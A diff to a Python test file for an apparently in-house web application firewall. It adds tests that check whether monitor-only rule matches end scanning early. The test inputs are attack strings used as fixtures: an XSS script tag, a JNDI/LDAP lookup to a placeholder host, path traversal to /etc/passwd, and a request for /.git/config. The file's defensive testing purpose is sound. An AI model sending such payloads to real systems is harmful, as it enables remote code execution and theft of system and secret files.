@@ -11,7 +11,7 @@ from gatewall.engine.facts import Facts
 from gatewall.engine.model import Action
 from gatewall.engine.snapshot import EnforcementMode
 from gatewall.engine.waf.exclusions import Exclusion
-from gatewall.engine.waf.judge import THRESHOLD, Judge, builtin_rules
+from gatewall.engine.waf.judge import THRESHOLD, Judge, builtin_rules, request_of
 from gatewall.engine.waf.matcher import RuleSet
 from gatewall.engine.waf.reading import BEGINNING, LONG_URI
 from gatewall.engine.waf.vector import AVAILABLE, CompiledNow
@@ -79,6 +79,35 @@ def test_rules_that_only_monitor_stop_nothing():
     rules = RuleSet([replace(rule, action=Action.MONITOR) for rule in BUILTIN])
 
     assert names(rules, ATTACK + "&c=../../etc/passwd") == names(rules, ATTACK + "&c=../../etc/passwd", stop_at=0)
+
+
+LONG_TEXT = f"<script>alert(1)</script>{' words' * 2_000} ${{jndi:ldap://x.example/a}}"
+
+
+def names_of_text(actions, default=Action.MONITOR):
+    """Return the matching rules of a long text, with the actions of some rules by name."""
+    rules = RuleSet([replace(rule, action=actions.get(rule.name, default)) for rule in BUILTIN])
+    request = request_of(b"POST", b"/", [(b"content-type", b"text/plain")], LONG_TEXT.encode())
+    return {rule.name for rule in rules.inspect(request, None, THRESHOLD)}
+
+
+def test_scan_of_texts_ends_where_monitored_rules_would_suffice_to_refuse():
+    found = names_of_text({})
+
+    assert {"xss-script-tag", REST} <= found
+    assert "injection-jndi-lookup" not in found
+
+
+def test_monitored_matches_end_no_scan_for_an_enforced_rule():
+    assert "injection-jndi-lookup" in names_of_text({"injection-jndi-lookup": Action.BLOCK})
+
+
+def test_monitored_matches_in_the_beginning_hide_no_path_from_an_enforced_rule():
+    enforced = {"scanner-secret-file": Action.BLOCK}
+    rules = RuleSet([replace(rule, action=enforced.get(rule.name, Action.MONITOR)) for rule in BUILTIN])
+    uri = f"/a<script>alert(1)</script>{'/words' * 300}/.git/config"
+
+    assert "scanner-secret-file" in names(rules, uri)
 
 
 def test_exclusion_holds_in_the_beginning():
